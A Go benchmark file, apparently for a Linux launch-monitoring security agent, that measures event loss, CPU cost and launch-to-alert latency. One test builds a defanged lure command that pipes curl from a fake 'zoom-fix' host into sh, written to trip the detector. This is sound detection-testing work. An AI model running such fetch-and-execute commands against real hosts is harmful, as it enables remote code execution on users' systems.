//go:build linux

package main

import (
	"context"
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"os/signal"
	"path/filepath"
	"strings"
	"syscall"
	"time"

	"meetguard"
	"meetguard/internal/watch"
)

// stormWord begins the argument of every launch of a storm, so that the
// launches of others on this machine are not counted.
const stormWord = "meetguard-bench-"

// heard is what a listener has heard, in words that it writes down when it
// ends.
type heard struct {
	Args   int // different launches of storms that came with their arguments
	Events int // all launches that were told, those of others too
	Lost   int
	Unread int
	CPU    float64 // seconds
}

// hearLaunches listens to one source until it is told to stop. It is what the
// agent does with launches, but for inspecting them.
func hearLaunches(source, out string) error {
	l, err := watch.NewLaunches(watch.LaunchesConfig{Source: source})
	if err != nil {
		return err
	}
	ctx, stop := signal.NotifyContext(context.Background(), syscall.SIGTERM)
	defer stop()
	go func() {
		<-l.Ready()
		fmt.Println("Watching")
	}()
	words := map[string]bool{}
	err = l.Run(ctx, func(_ context.Context, e meetguard.Event) error {
		if args := e.Process.Args; len(args) > 0 && strings.HasPrefix(args[len(args)-1], stormWord) {
			words[args[len(args)-1]] = true
		}
		return nil
	})
	if err != nil {
		return err
	}
	c := l.Counters()
	data, err := json.Marshal(heard{Args: len(words), Events: int(c.ExecEvents), Lost: int(c.ExecLost), Unread: int(c.ExecUnread), CPU: ownCPU()})
	if err != nil {
		return err
	}
	return os.WriteFile(out, data, 0o644)
}

// ownCPU is the CPU time of this process, in seconds.
func ownCPU() float64 {
	var u syscall.Rusage
	if syscall.Getrusage(syscall.RUSAGE_SELF, &u) != nil {
		return 0
	}
	return float64(u.Utime.Nano()+u.Stime.Nano()) / 1e9
}

// ear starts a listener on one source.
func (e *env) ear(source string) (*watcher, string, error) {
	dir, state, err := e.folders("ear")
	if err != nil {
		return nil, "", err
	}
	out := filepath.Join(state, "heard.json")
	w, err := start(dir, out, e.self, "floor", "launches", source, out)
	return w, out, err
}

// hear ends a listener and reads what it has heard.
func (w *watcher) hear(out string) (h heard, err error) {
	w.rest()
	w.stop()
	data, err := os.ReadFile(out)
	if err != nil {
		return h, err
	}
	return h, json.Unmarshal(data, &h)
}

// storm launches a program n times, one after the other, each time with another
// argument, and gives the seconds for each.
func storm(tag string, n int, name string, args ...string) (series, error) {
	var s series
	for i := range n {
		cmd := exec.Command(name, append(args, fmt.Sprintf("%s%s-%d", stormWord, tag, i))...)
		began := time.Now()
		if err := cmd.Run(); err != nil {
			return nil, err
		}
		s = append(s, time.Since(began).Seconds())
	}
	return s, nil
}

// measureLaunches holds the sources of launches to what they promise. It needs
// root, as they do.
func measureLaunches(e *env) ([]result, error) {
	if os.Geteuid() != 0 {
		return []result{{name: "sources of launches", figure: "not measured: they need root"}}, nil
	}
	n := 10000
	if e.short {
		n = 1000
	}
	rows, err := e.stormRows(n)
	if err != nil {
		return nil, err
	}
	short, err := e.shortLived(n / 10)
	if err != nil {
		return nil, err
	}
	verdicts, err := e.launchToAlert(max(n/500, 3))
	return append(append(rows, short...), verdicts...), err
}

// stormRows sends storms with and without a listener, in turns.
func (e *env) stormRows(n int) ([]result, error) {
	per := n / e.rounds
	var ratio, cpu series
	var all heard
	idle, err := e.idleEar()
	if err != nil {
		return nil, err
	}
	for round := range e.rounds {
		without, err := storm("without", per, "true")
		if err != nil {
			return nil, err
		}
		w, out, err := e.ear("ebpf")
		if err != nil {
			return nil, err
		}
		with, err := storm(fmt.Sprint(round), per, "true")
		if err != nil {
			w.stop()
			return nil, err
		}
		h, err := w.hear(out)
		if err != nil {
			return nil, err
		}
		all.Args, all.Lost, all.Unread = all.Args+h.Args, all.Lost+h.Lost, all.Unread+h.Unread
		ratio, cpu = append(ratio, with.median()/without.median()), append(cpu, 1e3*max(0, h.CPU-idle)/float64(h.Events))
	}
	total := per * e.rounds
	return []result{
		atLeast(fmt.Sprintf("launches of %d that ended at once, seen with their arguments (ebpf)", total), all.Args, total, 1),
		{name: "launches lost or unread in these", figure: fmt.Sprint(all.Lost + all.Unread), bar: "0", passed: all.Lost+all.Unread == 0},
		atMost("CPU of hearing one launch (ebpf)", cpu, 0.1, " ms"),
		atMost("one launch of a storm with the listener / without", ratio, 1.05, "×"),
	}, nil
}

// idleEar is the CPU of a listener that starts and stops.
func (e *env) idleEar() (float64, error) {
	w, out, err := e.ear("ebpf")
	if err != nil {
		return 0, err
	}
	h, err := w.hear(out)
	return h.CPU, err
}

// shortLived launches programs that live a few milliseconds, for the source
// that has to read their arguments afterwards.
func (e *env) shortLived(n int) ([]result, error) {
	w, out, err := e.ear("proc-connector")
	if err != nil {
		return nil, err
	}
	if _, err := storm("short", n, e.self, "floor", "nap"); err != nil {
		w.stop()
		return nil, err
	}
	h, err := w.hear(out)
	if err != nil {
		return nil, err
	}
	return []result{
		atLeast(fmt.Sprintf("launches of %d that lived 6 ms, seen with their arguments (proc-connector)", n), h.Args, n, 0.999),
		{name: "launches lost in these", figure: fmt.Sprint(h.Lost), bar: "0", passed: h.Lost == 0},
	}, nil
}

// launchToAlert launches a line that is an alert to the whole agent, but whose
// fetching part never runs, and gives the time from the launch to the alert on
// the disk. What one terminal starts is one chain and one alert, so each launch
// has an agent of its own.
func (e *env) launchToAlert(n int) ([]result, error) {
	var took series
	missing := 0
	for i := range n {
		ms, err := e.oneAlert(fmt.Sprintf("zoom-fix-%d.invalid", i))
		if err != nil {
			return nil, err
		}
		if ms == 0 {
			missing++
			continue
		}
		took = append(took, ms)
	}
	if len(took) == 0 {
		return nil, fmt.Errorf("%d of %d launches made no alert", missing, n)
	}
	return []result{
		{name: fmt.Sprintf("launches of %d lures that made no alert", n), figure: fmt.Sprint(missing), bar: "0", passed: missing == 0},
		atMost("launch to alert on the disk, agent just started, p50", series{took.median()}, 2, " ms"),
		atMost("the slowest of them", series{took.quantile(1)}, 20, " ms"),
	}, nil
}

// oneAlert gives the milliseconds from a launch to its alert, or 0 without one.
func (e *env) oneAlert(host string) (float64, error) {
	agent, err := e.watchAgent("launches", "")
	if err != nil {
		return 0, err
	}
	defer agent.stop()
	// a line that has the worker started, and is no alert
	if err := exec.Command("sh", "-c", ": https://warm.invalid/").Run(); err != nil {
		return 0, err
	}
	time.Sleep(200 * time.Millisecond)
	cmd := exec.Command("sh", "-c", fmt.Sprintf("true || curl -fsSLk https://%s/a | sh", host))
	if err := cmd.Start(); err != nil {
		return 0, err
	}
	launched := time.Now()
	if err := cmd.Wait(); err != nil {
		return 0, err
	}
	told, err := agent.log.wait(host, 2*time.Second)
	if err != nil || told.IsZero() {
		return 0, err
	}
	return 1e3 * told.Sub(launched).Seconds(), nil
}

// atLeast makes the result of a share that has a bar.
func atLeast(name string, got, of int, bar float64) result {
	share := float64(got) / float64(of)
	return result{name: name, figure: fmt.Sprintf("%.2f %%", 100*share), spread: fmt.Sprintf("%d", got), bar: fmt.Sprintf("≥ %g %%", 100*bar), passed: share >= bar}
}
